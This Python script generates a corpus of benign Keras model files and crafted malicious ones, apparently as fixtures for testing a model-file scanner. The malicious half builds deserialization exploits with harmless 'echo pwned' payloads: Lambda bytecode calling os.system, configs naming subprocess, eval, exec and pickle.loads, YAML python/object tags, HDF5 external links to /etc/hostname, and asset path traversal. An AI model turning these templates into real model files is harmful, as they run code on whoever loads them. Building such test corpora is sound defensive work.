"""Models of Keras: as users save them, and as attackers change them.

Needs keras==3.15.1 tensorflow-cpu==2.21.0 h5py==3.14.0 numpy==2.4.6 (Python 3.11).
Payloads only name files that do not exist, or print a word.
"""
import base64
import io
import json
import marshal
import os
import pathlib
import pickle
import shutil
import zipfile

os.environ["KERAS_BACKEND"] = "tensorflow"
os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"

import h5py
import keras
import numpy as np
from keras import layers, ops

HERE = pathlib.Path(__file__).resolve().parent
BENIGN = HERE / "benign"
MALICIOUS = HERE / "malicious"
keras.utils.set_random_seed(7)


def fixed_zip(path, members):
    """A zip whose bytes depend on nothing but its members."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, (2025, 1, 1, 0, 0, 0)), data)


def steady_config(text):
    """The configuration without what changes from run to run."""
    config = json.loads(text)

    def walk(value):
        if isinstance(value, dict):
            if "shared_object_id" in value:
                value["shared_object_id"] = 140000000
            for member in value.values():
                walk(member)
        elif isinstance(value, list):
            for member in value:
                walk(member)

    walk(config)
    return json.dumps(config)


def save_keras(model, name):
    buffer = io.BytesIO()
    scratch = HERE / "scratch.keras"
    model.save(scratch)
    with zipfile.ZipFile(scratch) as archive:
        members = []
        for member in archive.infolist():
            data = archive.read(member)
            if member.filename == "metadata.json":
                data = json.dumps({"keras_version": keras.__version__, "date_saved": "2025-01-01@00:00:00"})
            elif member.filename == "config.json":
                data = steady_config(data)
            members.append((member.filename, data))
    scratch.unlink()
    fixed_zip(BENIGN / name, members)


# ---- benign ---------------------------------------------------------------------------------------------------------


@keras.saving.register_keras_serializable("Corpus")
class Scale(layers.Layer):
    def __init__(self, factor=2.0, inner=None, **kwargs):
        super().__init__(**kwargs)
        self.factor = factor
        self.inner = inner

    def call(self, x):
        return self.inner(x * self.factor) if self.inner is not None else x * self.factor

    def get_config(self):
        return {**super().get_config(), "factor": self.factor, "inner": keras.saving.serialize_keras_object(self.inner)}


@keras.saving.register_keras_serializable("Corpus")
def swish_like(x):
    return x * ops.sigmoid(1.2 * x)


@keras.saving.register_keras_serializable("Corpus")
class Subclassed(keras.Model):
    def __init__(self, units=3, **kwargs):
        super().__init__(**kwargs)
        self.units = units
        self.first = layers.Dense(units, activation="gelu")
        self.second = layers.Dense(1)

    def call(self, x):
        return self.second(self.first(x))

    def get_config(self):
        return {**super().get_config(), "units": self.units}


@keras.saving.register_keras_serializable("Corpus")
def own_loss(y_true, y_pred):
    return ops.mean(ops.square(y_true - y_pred))


def functional(compiled=True):
    x = keras.Input((4,), name="features")
    y = layers.Dense(3, activation="relu", kernel_regularizer=keras.regularizers.L1L2(0.1, 0.2),
                     kernel_initializer=keras.initializers.HeNormal(seed=1), kernel_constraint="max_norm")(x)
    z = layers.Dense(3, activation=keras.activations.leaky_relu)(x)
    y = layers.Concatenate()([y, layers.Dropout(0.1, seed=3)(z)])
    model = keras.Model(x, layers.Dense(1)(y), name="functional")
    if compiled:
        model.compile("adam", "mse", metrics=["mae", keras.metrics.RootMeanSquaredError()])
        model.fit(np.ones((2, 4)), np.ones((2, 1)), verbose=0)
    return model


def benign():
    save_keras(functional(), "functional.keras")
    save_keras(functional(False), "not_compiled.keras")
    functional().save(BENIGN / "functional.h5")
    functional(False).save(BENIGN / "not_compiled.h5")
    functional().save_weights(BENIGN / "only.weights.h5")
    (BENIGN / "to_json.json").write_text(steady_config(functional().to_json()))

    save_keras(keras.Sequential([keras.Input((8, 8, 3)), layers.Rescaling(1 / 255), layers.RandomFlip(seed=1),
                                 layers.Conv2D(2, 3, padding="same"), layers.BatchNormalization(),
                                 layers.ReLU(max_value=6.0), layers.MaxPooling2D(), layers.SeparableConv2D(2, 3),
                                 layers.GlobalAveragePooling2D(), layers.Dense(2, "softmax")]), "vision.keras")
    rnn = keras.Sequential([keras.Input((5, 3)), layers.Bidirectional(layers.LSTM(2, return_sequences=True)),
                            layers.TimeDistributed(keras.Sequential([layers.Dense(2), layers.LayerNormalization()])),
                            layers.RNN([layers.GRUCell(2), layers.LSTMCell(2)])])
    rnn.compile(keras.optimizers.AdamW(keras.optimizers.schedules.CosineDecay(0.1, 10)), keras.losses.Huber(0.5))
    save_keras(rnn, "recurrent.keras")
    rnn.save(BENIGN / "recurrent.h5")

    inner = keras.Sequential([keras.Input((4,)), layers.Dense(4)], name="inner")
    x = keras.Input((4,))
    save_keras(keras.Model(x, keras.Model(x, inner(inner(x)))(inner(x))), "nested.keras")

    lookup = layers.StringLookup(vocabulary=["a", "b", "os.system", "eval(", "http://example.org"])
    words = keras.Input((1,), dtype="string")
    save_keras(keras.Model(words, layers.Embedding(7, 2)(lookup(words))), "lookup.keras")
    number = keras.Input((1,), dtype="int64")
    y = layers.CategoryEncoding(6, "one_hot")(layers.IntegerLookup(vocabulary=[3, 4, 5])(number))
    save_keras(keras.Model(number, y), "integer_lookup.keras")
    text = layers.TextVectorization(output_sequence_length=4, ngrams=2)
    text.adapt(["one two three", "two three four"])
    words = keras.Input((1,), dtype="string")
    save_keras(keras.Model(words, text(words)), "text_vectorization.keras")
    norm = layers.Normalization()
    norm.adapt(np.arange(12.0).reshape(4, 3))
    save_keras(keras.Sequential([keras.Input((3,)), norm, layers.Discretization([0.0, 1.0]), layers.Flatten()]),
               "preprocessing.keras")
    save_keras(keras.Sequential([keras.Input((1,), dtype="int64"), layers.Hashing(3)]), "hashing.keras")

    x = keras.Input((4,))
    save_keras(keras.Model(x, Scale(3.0, layers.Dense(2, activation=swish_like))(x)), "registered.keras")
    subclassed = Subclassed()
    subclassed.compile("sgd", own_loss)
    subclassed.fit(np.ones((2, 4)), np.ones((2, 1)), verbose=0)
    save_keras(subclassed, "subclassed.keras")
    subclassed.save_weights(BENIGN / "subclassed.weights.h5")

    keras.config.set_dtype_policy("mixed_float16")
    mixed = keras.Sequential([keras.Input((4,)), layers.Dense(3), layers.Activation("softmax", dtype="float32")])
    mixed.compile("rmsprop", "sparse_categorical_crossentropy")
    keras.config.set_dtype_policy("float32")
    save_keras(mixed, "mixed_precision.keras")
    for mode in ("int8", "float8", "int4"):
        quantised = keras.Sequential([keras.Input((4,)), layers.Dense(6, name="d"), layers.EinsumDense("ab,bc->ac", 3)])
        quantised.quantize(mode)
        save_keras(quantised, f"quantised_{mode}.keras")
    lora = keras.Sequential([keras.Input((4,)), layers.Dense(3, lora_rank=2), layers.EinsumDense("ab,bc->ac", 3, lora_rank=1)])
    save_keras(lora, "lora.keras")
    x = keras.Input((4, 6))
    y = ops.transpose(ops.matmul(x, ops.swapaxes(x, 1, 2)), (0, 2, 1))
    y = ops.concatenate([ops.relu(y), ops.exp(ops.sum(y, axis=1, keepdims=True)), y[:, 1:2, :]], axis=1)
    save_keras(keras.Model(x, ops.where(y > 0, y, ops.zeros_like(y))), "operations.keras")
    x = keras.Input((4, 6))
    y = layers.MultiHeadAttention(2, 3)(x, x)
    y = layers.LayerNormalization()(x + y)
    y = layers.GroupQueryAttention(3, 2, 1)(y, y)
    y = layers.Attention()([y, y])
    save_keras(keras.Model(x, layers.UnitNormalization()(layers.PReLU()(y))), "attention.keras")
    for optimizer in ("Adafactor", "Lion", "Ftrl", "Muon", "LossScaleOptimizer"):
        model = keras.Sequential([keras.Input((2,)), layers.Dense(2)])
        made = (keras.optimizers.LossScaleOptimizer(keras.optimizers.SGD(0.1, nesterov=True, momentum=0.9))
                if optimizer == "LossScaleOptimizer" else getattr(keras.optimizers, optimizer)())
        model.compile(made, keras.losses.BinaryFocalCrossentropy(),
                      metrics=[keras.metrics.AUC(), keras.metrics.F1Score(), "accuracy"], loss_weights=[0.5])
        save_keras(model, f"optimizer_{optimizer.lower()}.keras")
    x = keras.Input((3,), name="a")
    w = keras.Input((2,), name="b")
    two = keras.Model({"a": x, "b": w}, {"p": layers.Dense(1, name="p")(x), "q": layers.Dense(2, name="q")(w)})
    two.compile("adam", {"p": "mse", "q": keras.losses.KLDivergence()}, metrics={"p": ["mae"], "q": [own_loss]})
    save_keras(two, "two_inputs.keras")
    wide = keras.Sequential([keras.Input((2,)), layers.SpectralNormalization(layers.Dense(2)), layers.Masking(np.nan),
                             layers.GaussianNoise(0.1, seed=1), layers.AlphaDropout(0.1, seed=2)])
    save_keras(wide, "not_a_number.keras")
    convolution = keras.Sequential([keras.Input((16, 2)), layers.Conv1D(2, 3, dilation_rate=2), layers.Conv1DTranspose(2, 2),
                                    layers.DepthwiseConv1D(2), layers.ZeroPadding1D(1), layers.UpSampling1D(2),
                                    layers.GroupNormalization(2), layers.SpatialDropout1D(0.1, seed=1), layers.Permute((2, 1)),
                                    layers.Flatten(), layers.Dense(2, "hard_silu")])
    save_keras(convolution, "convolution.keras")
    pictures = keras.Sequential([keras.Input((8, 8, 3)), layers.Resizing(6, 6), layers.CenterCrop(4, 4), layers.RandomRotation(0.1, seed=1),
                                 layers.RandomZoom(0.1, seed=1), layers.RandomContrast(0.1, seed=1), layers.Pipeline([layers.RandomBrightness(0.1, seed=1)])])
    save_keras(pictures, "augmentation.keras")
    space = keras.utils.FeatureSpace({"a": "float_normalized", "b": keras.utils.FeatureSpace.string_categorical(num_oov_indices=1)}, output_mode="concat")
    import tensorflow
    space.adapt(tensorflow.data.Dataset.from_tensor_slices({"a": [0.1, 0.2, 0.3], "b": ["x", "y", "x"]}))
    space.save(HERE / "scratch.keras")
    with zipfile.ZipFile(HERE / "scratch.keras") as saved:
        fixed_zip(BENIGN / "feature_space.keras", [(m.filename, steady_config(saved.read(m)) if m.filename == "config.json" else saved.read(m))
                                                  for m in saved.infolist() if m.filename != "metadata.json"])
    (HERE / "scratch.keras").unlink()
    x = keras.Input((4,))
    save_keras(keras.Model(x, layers.Lambda(keras.activations.gelu)(x)), "lambda_of_keras_function.keras")

    # Configurations of older versions, as they were written then.
    keras1 = {"class_name": "Sequential", "keras_version": "1.2.2", "config": [
        {"class_name": "Dense", "config": {"name": "dense_1", "output_dim": 4, "activation": "relu", "init": "glorot_uniform",
                                           "batch_input_shape": [None, 3], "W_regularizer": None}},
        {"class_name": "Activation", "config": {"name": "activation_1", "activation": "softmax"}}]}
    (BENIGN / "keras1.json").write_text(json.dumps(keras1))
    keras2 = {"class_name": "Functional", "keras_version": "2.4.0", "backend": "tensorflow", "config": {
        "name": "model", "trainable": True, "layers": [
            {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "sparse": False,
                                                    "ragged": False, "name": "in"}, "name": "in", "inbound_nodes": []},
            {"class_name": "TFOpLambda", "config": {"name": "tf.math.multiply", "trainable": True, "dtype": "float32",
                                                    "function": "math.multiply"},
             "name": "tf.math.multiply", "inbound_nodes": [["in", 0, 0, {"y": 2.0, "name": None}]]},
            {"class_name": "SlicingOpLambda", "config": {"name": "slice", "function": "__operators__.getitem"},
             "name": "slice", "inbound_nodes": [["in", 0, 0, {"slice_spec": {"start": None, "stop": 2, "step": None}}]]},
            {"class_name": "Dense", "config": {"name": "dense", "trainable": True, "units": 2, "activation": "linear",
                                               "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
                                               "bias_initializer": {"class_name": "Zeros", "config": {}}},
             "name": "dense", "inbound_nodes": [[["tf.math.multiply", 0, 0, {}]]]}],
        "input_layers": [["in", 0, 0]], "output_layers": [["dense", 0, 0]]}}
    (BENIGN / "keras2.json").write_text(json.dumps(keras2))
    with h5py.File(BENIGN / "keras2.h5", "w") as file:  # attributes as bytes, as Keras 2.2 wrote them
        file.attrs["model_config"] = json.dumps(keras2).encode()
        file.attrs["training_config"] = json.dumps({"loss": "mse", "metrics": ["acc"], "sample_weight_mode": None,
                                                    "optimizer_config": {"class_name": "Adam", "config": {"lr": 0.001}}}).encode()
        file.attrs["keras_version"] = b"2.2.4"
        file.attrs["backend"] = b"tensorflow"
        weights = file.create_group("model_weights")
        weights.attrs["layer_names"] = [b"in", b"dense"]
        weights.create_group("dense").attrs["weight_names"] = [b"dense/kernel:0", b"dense/bias:0"]
        weights["dense/dense/kernel:0"] = np.ones((4, 2), "f4")
        weights["dense/dense/bias:0"] = np.zeros(2, "f4")
    v3_of_2 = {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {"name": "s", "layers": [
        {"module": "keras.layers", "class_name": "Dense", "registered_name": None, "config": {
            "units": 2, "activation": {"module": "builtins", "class_name": "function", "config": "my_activation",
                                       "registered_name": "function"}}},
        {"module": "tensorflow_addons.layers", "class_name": "WeightNormalization", "registered_name": "Addons>WeightNormalization",
         "config": {"name": "w", "layer": {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1},
                                           "registered_name": None}}},
        {"module": "my_project.layers", "class_name": "Gate", "registered_name": "my_project>Gate", "config": {"units": 1}},
        {"module": None, "class_name": "Block", "registered_name": "Custom>Block", "config": {"path": "weights"}}]},
        "build_config": {"input_shape": [None, 2]}, "compile_config": {"optimizer": "adam", "loss": {
            "module": "builtins", "class_name": "function", "config": "focal", "registered_name": "function"}}}
    (BENIGN / "custom_objects.json").write_text(json.dumps(v3_of_2))
    fixed_zip(BENIGN / "custom_objects.keras", [("metadata.json", '{"keras_version": "2.15.0"}'),
                                                ("config.json", json.dumps(v3_of_2))])
    tokenizer = {"class_name": "Tokenizer", "config": {"num_words": None, "filters": "", "lower": True, "split": " ",
                                                       "char_level": False, "word_counts": '{"exec(": 2, "os.system(": 1}',
                                                       "word_index": '{"exec(": 1, "os.system(": 2}'}}
    (BENIGN / "tokenizer.json").write_text(json.dumps(tokenizer))
    (BENIGN / "keras2.yaml").write_text(
        "backend: tensorflow\nclass_name: Sequential\nconfig:\n  layers:\n  - class_name: Dense\n    config:\n"
        "      activation: relu\n      batch_input_shape: !!python/tuple [null, 3]\n      units: 2\n"
        "  name: sequential\nkeras_version: 2.4.0\n")


# ---- malicious ------------------------------------------------------------------------------------------------------


def code_of(source):
    """A function's bytecode, as Keras stores it."""
    space = {}
    exec(source, space)
    return base64.b64encode(marshal.dumps(space["f"].__code__)).decode() + "\n"


EVIL = code_of("def f(x):\n    import os\n    os.system('echo pwned')\n    return x\n")
HIDDEN = code_of("def f(x):\n    return [c for c in ().__class__.__base__.__subclasses__()] and x\n")
PLAIN = code_of("def f(x):\n    return x * 2\n")


def layer(name, config=None, module="keras.layers", **more):
    return {"module": module, "class_name": name, "config": config or {"name": "l"}, "registered_name": None, **more}


def function(module, name, registered=None):
    return {"module": module, "class_name": "function", "config": name, "registered_name": registered or name}


def lambda_of(code):
    return {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}


def model(*inside, **more):
    return layer("Sequential", {"name": "s", "layers": [layer("InputLayer", {"batch_shape": [None, 1], "name": "i"}), *inside]},
                 "keras", build_config={"input_shape": [None, 1]}, **more)


def archive(name, config, *members, **options):
    text = config if isinstance(config, (str, bytes)) else json.dumps(config)
    inside = [("metadata.json", '{"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}'),
              (options.get("config_name", "config.json"), text), ("model.weights.h5", options.get("weights", WEIGHTS))]
    fixed_zip(MALICIOUS / name, inside + list(members))


def hdf5_bytes(fill):
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        fill(file)
    return buffer.getvalue()


def plain_weights(file):
    file["layers/dense/vars/0"] = np.ones((2, 2), "f4")
    file.create_group("optimizer/vars")


WEIGHTS = hdf5_bytes(plain_weights)


def legacy(name, config, training=None, encode=False, version="2.4.0"):
    def fill(file):
        text = config if isinstance(config, str) else json.dumps(config)
        file.attrs["model_config"] = np.bytes_(text.encode()) if encode else text
        file.attrs["keras_version"] = version
        if training is not None:
            file.attrs["training_config"] = json.dumps(training)
        file.create_group("model_weights")

    (MALICIOUS / name).write_bytes(hdf5_bytes(fill))


def old_layer(name, config, **more):
    return {"class_name": name, "config": config, **more}


def old_model(*inside):
    return {"class_name": "Sequential", "config": {"name": "s", "layers": list(inside)}}


def old_lambda(code, kind="lambda", **more):
    return old_layer("Lambda", {"name": "l", "function": [code, None, None] if kind == "lambda" else code,
                                "function_type": kind, "module": "__main__", "output_shape": None, "arguments": {}, **more})


def malicious():
    dense = layer("Dense", {"units": 1})
    archive("lambda.keras", model(layer("Lambda", {"name": "l", "function": lambda_of(EVIL), "arguments": {}})))
    archive("lambda_plain_code.keras", model(layer("Lambda", {"name": "l", "function": lambda_of(PLAIN)})))
    archive("lambda_output_shape.keras", model(layer("Lambda", {"function": function("keras.ops", "relu"),
                                                                 "output_shape": lambda_of(EVIL)})))
    archive("lambda_mask.keras", model(layer("Lambda", {"function": function("keras.ops", "relu"), "mask": lambda_of(HIDDEN)})))
    archive("lambda_in_time_distributed.keras", model(layer("TimeDistributed", {"layer": model(layer("Bidirectional", {
        "layer": layer("RNN", {"cell": layer("Lambda", {"function": lambda_of(EVIL)})})}))})))
    archive("lambda_in_custom_layer.keras", model({"module": "app", "class_name": "Block", "registered_name": "app>Block",
                                                    "config": {"fn": {"class_name": "__lambda__", "config": {"value": EVIL}}}}))
    archive("bytecode_in_custom_config.keras", model({"module": None, "class_name": "Block", "registered_name": "app>Block",
                                                       "config": {"blob": EVIL}}))
    archive("lambda_as_activation.keras", model(layer("Dense", {"units": 1, "activation": {
        "class_name": "__lambda__", "config": {"value": EVIL}}})))
    archive("lambda_as_loss.keras", model(dense, compile_config={"optimizer": "adam", "loss": {
        "class_name": "__lambda__", "config": {"value": EVIL}}}))
    archive("lambda_named_system.keras", model(layer("Lambda", {"function": function("os", "system"),
                                                                 "arguments": {"command": "echo pwned"}})))
    archive("module_os.keras", model(layer("system", {"command": "echo pwned"}, "os")))
    archive("module_subprocess_function.keras", model(layer("Dense", {"activation": function("subprocess", "check_output")})))
    archive("module_importlib.keras", model(layer("import_module", {"name": "os"}, "importlib")))
    archive("module_builtins_eval.keras", model(layer("Lambda", {"function": {
        "module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}})))
    archive("module_builtins_exec_loss.keras", model(dense, compile_config={"optimizer": "adam",
                                                                            "loss": function("builtins", "exec", "function")}))
    archive("module_pip.keras", model(layer("main", {"args": ["install", "x"]}, "pip")))
    archive("module_pickle.keras", model(layer("Dense", {"kernel_initializer": function("pickle", "loads")})))
    archive("module_torch_load.keras", model(layer("Lambda", {"function": function("torch", "load")})))
    archive("module_numpy_load.keras", model(layer("Lambda", {"function": function("numpy", "load")})))
    archive("module_nested_deep.keras", model(model(model(model(layer("Wrapper", {"layer": layer("Popen", {"args": ["id"]}, "subprocess")},
                                                                     "keras.layers"))))))
    archive("typespec_foreign.keras", model(layer("Dense", {"spec": {"class_name": "__typespec__", "spec_name": "Popen",
                                                                     "module": "subprocess", "config": [], "registered_name": None}})))
    archive("function_pandas_read_pickle.keras", model(layer("Lambda", {"function": function("pandas", "read_pickle")})))
    archive("gadget_get_file.keras", model(layer("Lambda", {"function": function("keras.utils", "get_file"),
                                                             "arguments": {"origin": "http://127.0.0.1/x", "extract": True}})))
    archive("gadget_get_file_src.keras", model(layer("Lambda", {"function": function("keras.src.utils.file_utils", "get_file")})))
    archive("gadget_func_load.keras", model(layer("Lambda", {"function": function("keras.src.utils.python_utils", "func_load")})))
    archive("gadget_load_model.keras", model(layer("Lambda", {"function": function("keras.models", "load_model")})))
    archive("gadget_deserialize.keras", model(layer("Lambda", {"function": function("keras.saving", "deserialize_keras_object")})))
    archive("gadget_layers_deserialize.keras", model(layer("Lambda", {"function": function("keras.layers", "deserialize")})))
    archive("gadget_enable_unsafe.keras", model(layer("Lambda", {"function": function("keras.config", "enable_unsafe_deserialization")})))
    archive("gadget_enable_unsafe_class.keras", model(layer("enable_unsafe_deserialization", {}, "keras.config")))
    archive("gadget_save_img.keras", model(layer("Lambda", {"function": function("keras.utils", "save_img")})))
    archive("gadget_datasets.keras", model(layer("Lambda", {"function": function("keras.datasets.mnist", "load_data")})))
    archive("gadget_callbacks.keras", model(layer("RemoteMonitor", {"root": "http://127.0.0.1"}, "keras.callbacks")))
    archive("gadget_file_editor.keras", model(layer("KerasFileEditor", {"filepath": "/etc/hostname"}, "keras.saving")))
    archive("gadget_tf_io.keras", model(layer("Lambda", {"function": function("tensorflow.io", "write_file")})))
    archive("vocabulary_path.keras", model(layer("StringLookup", {"vocabulary": "/etc/hostname", "name": "v"})))
    archive("vocabulary_address.keras", model(layer("TextVectorization", {"vocabulary": "http://127.0.0.1/metadata"})))
    archive("vocabulary_relative.keras", model(layer("IntegerLookup", {"vocabulary": "private.txt"})))
    archive("tfsm_layer.keras", model(layer("TFSMLayer", {"filepath": "\\\\host\\share\\model"})))
    archive("torch_module.keras", model(layer("TorchModuleWrapper", {
        "module": base64.b64encode(pickle.dumps(print, 2)).decode() * 2})))
    archive("pickle_in_config.keras", model({"module": None, "class_name": "B", "registered_name": "a>B", "config": {
        "state": base64.b64encode(b"cos\nsystem\n(S'echo pwned'\ntR.").decode()}}))
    archive("code_in_config.keras", model({"module": None, "class_name": "B", "registered_name": "a>B", "config": {
        "expression": "__import__('os').system('echo pwned')"}}))
    archive("duplicate_key.keras", json.dumps(model(dense)).replace('"class_name": "Dense"',
                                                                      '"class_name": "Lambda", "class_name": "Dense"'))
    archive("escaped_names.keras", json.dumps(model(layer("Lambda", {"function": lambda_of(EVIL)}))).replace("class_name", "class\\u005fname"))
    archive("not_json.keras", '{"class_name": "Sequential", "config": {"layers": [')
    archive("surrogate.keras", json.dumps(model(layer("Lambda", {"function": lambda_of(EVIL), "x": "y"}))).replace('"y"', '"\\ud800"'))
    archive("deep.keras", '{"a":' * 3000 + "1" + "}" * 3000)
    archive("not_a_number_and_lambda.keras", json.dumps(model(layer("Lambda", {"function": lambda_of(EVIL), "x": float("nan")}))))
    archive("padded_config.keras", " " * 9000 + json.dumps(model(layer("Lambda", {"function": lambda_of(EVIL)}))))
    archive("renamed_weights.bin", model(layer("Lambda", {"function": lambda_of(EVIL)})))
    fixed_zip(MALICIOUS / "config_only.keras", [("config.json", json.dumps(model(layer("Lambda", {"function": lambda_of(EVIL)}))))])
    fixed_zip(MALICIOUS / "config_only_other_name.zip", [("config.json", json.dumps(model(layer("Lambda", {"function": lambda_of(EVIL)}))))])
    archive("asset_traversal.keras", model(dense), ("assets/../../../../tmp/pwned", b"x"))

    archive("lambda_source_text.keras", old_model(old_layer("Lambda", {
        "function": [base64.b64encode(b"import os; os.system('echo pwned')").decode(), None, None]})))
    archive("module_of_layer_os.keras", model(layer("Dense", {"units": 1}, "os")))
    archive("module_of_layer_builtins.keras", model(layer("Dense", {"units": 1}, "builtins")))
    archive("fn_module_subprocess.keras", model(layer("Dense", {"units": 1, "fn_module": "subprocess"})))
    archive("fn_get_file.keras", model(layer("Dense", {"fn": "get_file", "args": ["http://127.0.0.1/x"]})))
    archive("text_enable_unsafe.keras", model(layer("Dense", {"loader": "keras.config.enable_unsafe_deserialization"})))
    archive("weight_map.keras", model(dense), ("model.weights.json", json.dumps(
        {"metadata": {}, "weight_map": {"/layers/dense/vars": "../../../etc/secret.weights.h5"}})))
    for name, method in {"bzip2": zipfile.ZIP_BZIP2, "lzma": zipfile.ZIP_LZMA, "deflate": zipfile.ZIP_DEFLATED}.items():
        with zipfile.ZipFile(MALICIOUS / f"packed_{name}.keras", "w", method) as packed:
            packed.writestr(zipfile.ZipInfo("config.json", (2025, 1, 1, 0, 0, 0)),
                            json.dumps(model(layer("Lambda", {"function": lambda_of(EVIL)}))), method)

    def external_link(file):
        file["layers/dense/vars/0"] = h5py.ExternalLink("/etc/hostname.h5", "/x")

    def external_storage(file):
        file.create_dataset("layers/dense/vars/0", (4,), "u1", external=[("/etc/hostname", 0, 4)])

    def nearby_storage(file):
        file.create_dataset("layers/dense/vars/0", (4,), "u1", external=[("secret.bin", 0, 4)])

    archive("weights_external_link.keras", model(dense), weights=hdf5_bytes(external_link))
    archive("weights_external_storage.keras", model(dense), weights=hdf5_bytes(external_storage))
    (MALICIOUS / "external_storage.weights.h5").write_bytes(hdf5_bytes(nearby_storage))

    legacy("lambda.h5", old_model(old_lambda(EVIL)))
    legacy("lambda_bytes.h5", old_model(old_lambda(EVIL)), encode=True)
    legacy("lambda_large.h5", old_model(*[old_layer("Dense", {"name": f"dense_{i}", "units": 1}) for i in range(900)],
                                        old_lambda(EVIL)))
    legacy("lambda_plain_code.h5", old_model(old_lambda(PLAIN)))
    legacy("lambda_raw.h5", old_model(old_lambda(EVIL, "raw")))
    legacy("lambda_output_shape.h5", old_model(old_layer("Lambda", {"function": "f", "function_type": "function",
                                                                    "output_shape": [EVIL, None, None],
                                                                    "output_shape_type": "lambda"})))
    legacy("lambda_nested.h5", old_model(old_layer("TimeDistributed", {"layer": old_model(old_layer(
        "Bidirectional", {"layer": old_lambda(EVIL)}))})))
    legacy("lambda_new_style.h5", model(layer("Lambda", {"function": lambda_of(EVIL)})), version="3.9.0")
    legacy("lambda_in_training.h5", old_model(), training={"loss": {"class_name": "__lambda__", "config": {"value": EVIL}}})
    legacy("lambda_escaped.h5", json.dumps(old_model(old_lambda(EVIL))).replace("Lambda", "\\u004cambda"))
    legacy("lambda_spaced.h5", json.dumps(old_model(old_lambda(EVIL))).replace('"class_name": ', '"class_name"' + " " * 99 + ":\n"))
    legacy("tf_op_write_file.h5", old_model(old_layer("TFOpLambda", {"name": "w", "function": "io.write_file"})))
    legacy("tf_op_py_function.h5", old_model(old_layer("TFOpLambda", {"name": "w", "function": "numpy_function"})))
    legacy("tensorflow_op_layer.h5", old_model(old_layer("TensorFlowOpLayer", {"node_def": {"name": "r", "op": "ReadFile"}})))
    legacy("module_os.h5", model(layer("system", {"command": "echo pwned"}, "os")), version="3.9.0")
    legacy("function_dotted.h5", old_model(old_layer("Dense", {"units": 1, "activation": "os.system"})))
    legacy("hub_address.h5", old_model(old_layer("KerasLayer", {"handle": "http://127.0.0.1/model"})))

    def in_a_dataset(file):
        file["config"] = json.dumps(old_model(old_lambda(EVIL)))
        file.attrs["keras_version"] = "2.4.0"

    (MALICIOUS / "config_in_dataset.h5").write_bytes(hdf5_bytes(in_a_dataset))
    (MALICIOUS / "lambda.json").write_text(json.dumps(old_model(old_lambda(EVIL))))
    (MALICIOUS / "module_os.json").write_text(json.dumps(model(layer("system", {}, "os"))))
    (MALICIOUS / "escaped_names.json").write_text(
        json.dumps(old_model(old_lambda(EVIL))).replace("class_name", "\\u0063lass_name"))
    folder = MALICIOUS / "unpacked_model"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps(model(layer("Lambda", {"function": lambda_of(EVIL)}))))
    (folder / "metadata.json").write_text('{"keras_version": "3.8.0"}')
    (folder / "model.weights.h5").write_bytes(WEIGHTS)
    (MALICIOUS / "python_object.yaml").write_text(
        "class_name: Sequential\nconfig:\n  layers:\n  - class_name: Dense\n    config:\n"
        "      units: !!python/object/apply:os.system ['echo pwned']\nkeras_version: 2.4.0\n")
    (MALICIOUS / "python_tag_long.yml").write_text(
        "class_name: !<tag:yaml.org,2002:python/object/new:type> []\nconfig: {}\n")
    (MALICIOUS / "module_os.yaml").write_text(
        "class_name: Sequential\nmodule: keras\nconfig:\n  layers:\n  - {class_name: system, module: os, config: {command: echo}}\n")
    archive("companion_function.keras", model(layer("Lambda", {"function": function("keras_hub.src.utils.preset_utils", "load_json")})))
    (MALICIOUS / "lambda.yaml").write_text(
        "backend: tensorflow\nclass_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config:\n"
        f"      function: !!python/tuple ['{EVIL.strip()}', null, null]\n      function_type: lambda\n")


for folder in (BENIGN, MALICIOUS):
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
malicious()
benign()
